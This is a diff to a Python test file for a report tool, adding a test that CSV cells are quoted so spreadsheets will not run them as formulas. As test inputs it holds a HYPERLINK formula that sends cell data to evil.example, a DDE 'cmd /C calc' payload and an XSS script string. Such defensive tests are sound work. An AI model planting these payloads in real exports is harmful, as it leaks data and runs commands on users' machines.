@@ -15,7 +15,7 @@ import pytest
 
 from knobsweep import layout
 from knobsweep.io import atomic_write_json
-from knobsweep.report import build_report, collect_experiment, report_paths
+from knobsweep.report import build_report, collect_experiment, inert_in_spreadsheets, report_paths
 from knobsweep.spec import Experiment, Run, StageKeys
 
 XSS = "<script>alert(1)</script>"
@@ -409,3 +409,21 @@ def rich_sweep(root: Path, steps: int = 30) -> Experiment:
     write_full_eval(root, "eval-x", 0.90, 0.95, completion=f"{IMG_XSS} {XSS} #### 1", parser="flexible")
     write_full_eval(root, "base0", 0.05, 0.20)
     return experiment
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_inert(tmp_path: Path) -> None:
+    """OWASP CSV injection: text starting with = + - @ (or a tab / CR) gets a leading quote; numbers stay."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    bad = make_run(formula, {"rollout.temperature": "@SUM(1+1)"}, "x", config_with(rollout__temperature="@SUM(1+1)"))
+    experiment = Experiment(name="csv", path=tmp_path / "csv.yaml", runs=(make_run("baseline", {}, "a"), bad),
+                            hypotheses={}, mode="ofat")
+    write_train(tmp_path, bad, [0.1, 0.2], state="FAILED", reason="-2+3 cmd|' /C calc'!A0")
+    paths = build_report(experiment, tmp_path)
+    with open(paths["csv"], newline="") as file:
+        rows = {row["run"]: row for row in csv.DictReader(file)}
+    row = rows["'" + formula]
+    assert row["rollout.temperature"] == "'@SUM(1+1)" and row["reason"] == "'-2+3 cmd|' /C calc'!A0"
+    with open(paths["curves"], newline="") as file:
+        assert {r["run"] for r in csv.DictReader(file)} >= {"'" + formula}
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows.values() for cell in r.values())
+    assert inert_in_spreadsheets("-0.5") == "'-0.5" and inert_in_spreadsheets("baseline") == "baseline"
